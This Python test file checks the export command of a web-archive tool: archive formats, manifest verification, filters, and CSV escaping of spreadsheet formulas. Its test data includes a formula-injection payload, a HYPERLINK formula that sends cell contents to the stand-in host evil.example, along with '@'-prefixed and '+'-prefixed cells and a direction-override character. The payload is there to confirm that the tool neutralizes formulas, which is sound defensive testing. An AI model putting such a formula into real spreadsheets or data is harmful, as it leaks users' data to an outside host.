"""`amtsblick export`: every format by its name, what is chosen, what is refused, and tables that harm no spreadsheet."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest

from crawler import cli
from crawler.sheets import What
from storage.archive import Archive
from storage.records import NoticeRow
from tests.storage import handed
from tests.storage.handed import BEGIN, DAY, HOST, PAGE
from tests.storage.makers import changed, concluded

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
CONFIG = f"""
[archive]
path = "amtsblick.db"
organization = "Landesamt für Prüfung"
[[source]]
name = "section"
start = ["{HOST}/a/"]
[crawler]
contact = "webarchiv@example.org"
"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A config with an archive: three crawls, one change, one notice, all with hostile words."""
    folder = tmp_path_factory.mktemp("export")
    file = folder / "amtsblick.toml"
    file.write_text(CONFIG, encoding="utf-8")
    file.chmod(0o600)
    with Archive.open(folder / "amtsblick.db", create=True) as archive:
        handed.build(archive)
        *earlier, last = reversed(archive.crawls())
        for crawl in earlier:
            archive.commit_detection(crawl, concluded(archive, crawl))
        change = changed(last, PAGE, title=FORMULA, summary="Erste Zeile\r\n+2. Zeile \u202e")
        notice = NoticeRow(
            id="n1", host="amt.example.org", text="@SUM(A1)\nGeschlossen", text_digest="sha256:" + "0" * 64, uris=(PAGE,),
            peak_pages=1, first_seen=BEGIN, last_seen=BEGIN + DAY,
        )  # fmt: skip
        archive.commit_detection(last, concluded(archive, last, change, notices=(notice,)))
    return folder


class Shell:
    def __init__(self, folder: Path, out: Path, capsys: pytest.CaptureFixture[str]) -> None:
        self._folder, self.place, self._capsys = folder, out, capsys
        self.out = self.err = ""

    def __call__(self, form: str, name: str, *words: str) -> int:
        self._capsys.readouterr()
        config = str(self._folder / "amtsblick.toml")
        code = cli.run(["--config", config, "export", "--format", form, "-o", str(self.place / name), *words])
        self.out, self.err = self._capsys.readouterr()
        assert "Traceback" not in self.err
        return code

    def verify(self, name: str, *words: str) -> int:
        self._capsys.readouterr()
        config = str(self._folder / "amtsblick.toml")
        code = cli.run(["--config", config, "verify", str(self.place / name), *words])
        self.out, self.err = self._capsys.readouterr()
        return code

    def rows(self, name: str) -> list[dict[str, str]]:
        data = (self.place / name).read_bytes()
        assert data.startswith(b"\xef\xbb\xbf")
        assert data.replace(b"\r\n", b"").count(b"\n") == 0
        return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))

    def objects(self, name: str) -> list[dict[str, Any]]:
        return [json.loads(line) for line in (self.place / name).read_bytes().splitlines()]


@pytest.fixture
def export(folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Shell:
    return Shell(folder, tmp_path, capsys)


@pytest.mark.parametrize(
    ("form", "name"), [("warc", "x.warc.gz"), ("wacz", "x.wacz"), ("bagit", "bag"), ("bagit", "bag.zip")]
)
def test_every_format_says_what_it_wrote(export: Shell, folder: Path, form: str, name: str) -> None:
    assert export(form, name, "--json") == 0, export.err
    (row,) = [json.loads(line) for line in export.out.splitlines()]
    with Archive.open(folder / "amtsblick.db", readonly=True) as archive:
        assert row["chain_head"] == archive.chain_head()
    assert (row["format"], row["captures"], row["chain_position"]) == (form, handed.TOTAL, handed.TOTAL)
    part = row["parts"][0]
    place = export.place / name if (export.place / name).is_file() else export.place / name / part["path"]
    assert part["sha256"] == hashlib.sha256(place.read_bytes()).hexdigest()
    assert export(form, name) == 74
    assert "exists already" in export.err
    assert export(form, name, "--force") == 0
    assert "chain head: sha256:" in export.out


@pytest.mark.parametrize(
    ("form", "name"), [("warc", "x.warc.gz"), ("wacz", "x.wacz"), ("bagit", "bag"), ("csv", "tables.zip")]
)
def test_verify_proves_what_was_written(export: Shell, folder: Path, form: str, name: str) -> None:
    assert export(form, name) == 0, export.err
    assert export.verify(name) == 0, export.err
    assert export.out.startswith("whole: ")
    with Archive.open(folder / "amtsblick.db", readonly=True) as archive:
        head = archive.chain_head()
    assert head in export.out
    if form != "csv":
        assert export.verify(name, "--head", head[7:23]) == 0
        assert f"is the link of capture {handed.TOTAL}" in export.out
    assert export.verify(name, "--head", "00" * 32) == 65
    (folder / "amtsblick.db").rename(folder / "elsewhere.db")
    assert export.verify(name, "--json") == 0, "it needs no archive"
    row = json.loads(export.out)
    assert (row["whole"], row["head"], row["format"]) == (True, head, form)
    (folder / "elsewhere.db").rename(folder / "amtsblick.db")


def test_verify_names_what_is_not_as_written_and_what_it_is_not_asked_of(export: Shell) -> None:
    assert export("warc", "x.warc.gz") == 0
    file = export.place / "x.warc.gz"
    file.write_bytes(file.read_bytes()[:-1])
    assert export.verify("x.warc.gz") == 65
    assert "file: x.warc.gz has" in export.out
    assert "export it anew" in export.err
    (export.place / "x.warc.gz.manifest.json").unlink()
    assert export.verify("x.warc.gz") == 74
    assert "no x.warc.gz.manifest.json beside it" in export.err
    assert export.verify("none.wacz") == 74
    assert "no such file" in export.err


def test_a_bag_has_the_tables_and_whose_it_is(export: Shell) -> None:
    assert export("bagit", "bag") == 0
    names = {each.name for each in (export.place / "bag/data").iterdir()}
    tables = {f"{what}.{kind}" for what in What for kind in ("csv", "jsonl")}
    assert names == tables | {"amtsblick.warc.gz", "README.txt", "manifest.json"}
    info = (export.place / "bag/bag-info.txt").read_text()
    assert "Source-Organization: Landesamt für Prüfung\n" in info
    assert "Contact-Email: webarchiv@example.org\n" in info


class TestTables:
    def test_a_folder_has_them_all_with_a_manifest(self, export: Shell) -> None:
        assert export("csv", "tables") == 0
        names = {each.name for each in (export.place / "tables").iterdir()}
        assert names == {"changes.csv", "seminars.csv", "notices.csv", "captures.csv", "manifest.json"}
        assert len(export.rows("tables/captures.csv")) == handed.TOTAL
        manifest = json.loads((export.place / "tables/manifest.json").read_bytes())
        assert {each["path"]: each.get("rows", 0) for each in manifest["parts"]} == {
            "changes.csv": 1, "seminars.csv": 0, "notices.csv": 1, "captures.csv": handed.TOTAL,
        }  # fmt: skip

    def test_so_has_a_zip_file(self, export: Shell) -> None:
        assert export("json", "tables.zip") == 0
        with zipfile.ZipFile(export.place / "tables.zip") as package:
            assert set(package.namelist()) == {*(f"{what}.jsonl" for what in What), "manifest.json"}

    def test_no_cell_is_a_formula(self, export: Shell) -> None:
        assert export("csv", "tables") == 0
        (change,) = export.rows("tables/changes.csv")
        assert change["title"] == "'" + FORMULA
        assert change["summary"].startswith("Erste Zeile")
        (notice,) = export.rows("tables/notices.csv")
        assert notice["text"] == "'@SUM(A1) Geschlossen"
        for name in ("changes", "notices", "captures"):
            for row in export.rows(f"tables/{name}.csv"):
                assert not [cell for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]

    def test_json_has_the_exact_words_and_says_what_each_line_is(self, export: Shell) -> None:
        assert export("json", "all.jsonl") == 0
        found = export.objects("all.jsonl")
        assert [each["type"] for each in found] == ["change", "notice", *["capture"] * handed.TOTAL]
        assert found[0]["title"] == FORMULA
        assert found[1]["text"] == "@SUM(A1)\nGeschlossen"
        assert found[3]["uri"] == PAGE
        assert found[3]["payload_digest"] == f"sha256:{hashlib.sha256(handed.HTML).hexdigest()}"

    def test_one_csv_file_holds_the_changes_unless_told_otherwise(self, export: Shell) -> None:
        assert export("csv", "x.csv") == 0
        assert "--what" in export.err
        assert [row["kind"] for row in export.rows("x.csv")] == ["page.changed"]
        assert export("csv", "looks.csv", "--what", "captures") == 0
        assert len(export.rows("looks.csv")) == handed.TOTAL

    def test_filters_hold_for_tables(self, export: Shell) -> None:
        until = "2026-01-06"
        assert export("json", "early.jsonl", "--until", until, "--uri", f"{HOST}/a/*") == 0
        found = export.objects("early.jsonl")
        assert {each["type"] for each in found} == {"notice", "capture"}
        assert len(found) == 1 + 2 * (handed.A_DAY - 1)


@pytest.mark.parametrize(
    ("words", "captures"),
    [
        (("--uri", PAGE), 3),
        (("--uri", PAGE.removeprefix("http://")), 3),
        (("--uri", f"{HOST}/a/*"), handed.IN_SECTION),
        (("--since", "06.01.2026", "--until", "2026-01-06"), handed.A_DAY),
        (("--source", "section"), handed.TOTAL),
    ],
)
def test_only_what_was_asked_for(export: Shell, words: tuple[str, ...], captures: int) -> None:
    assert export("warc", "x.warc.gz", *words, "--json") == 0, export.err
    assert json.loads(export.out)["captures"] == captures


@pytest.mark.parametrize(
    ("form", "name", "words", "code", "said"),
    [
        ("warc", "x.warc.gz", ("--source", "sektion"), 2, "section"),
        ("warc", "x.warc.gz", ("--uri", f"{HOST}/a/pln.pdf"), 2, "did you mean"),
        ("warc", "x.warc.gz", ("--since", "2027-01-01"), 2, "no capture fits"),
        ("warc", "x.warc.gz", ("--since", "2026-01-06", "--until", "2026-01-05"), 2, "--until is before --since"),
        ("warc", "x.warc.gz", ("--since", "gestrn"), 2, "is no date"),
        ("warc", "x.warc.gz", ("--what", "changes"), 2, "--what goes with"),
        ("tar", "x.tar", (), 2, "warc"),
        ("wacz", "nowhere/x.wacz", (), 74, "no such folder"),
    ],
)
def test_a_mistake_is_one_line_and_leaves_nothing(
    export: Shell, form: str, name: str, words: tuple[str, ...], code: int, said: str
) -> None:
    assert export(form, name, *words) == code
    (line,) = export.err.splitlines()
    assert said in line
    assert export.out == ""
    assert list(export.place.iterdir()) == []


def test_an_archive_is_needed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = tmp_path / "amtsblick.toml"
    file.write_text(CONFIG, encoding="utf-8")
    file.chmod(0o600)
    assert cli.run(["--config", str(file), "export", "--format", "warc", "-o", str(tmp_path / "x.warc.gz")]) == 74
    assert "no archive yet" in capsys.readouterr().err
    assert [each.name for each in tmp_path.iterdir()] == ["amtsblick.toml"]
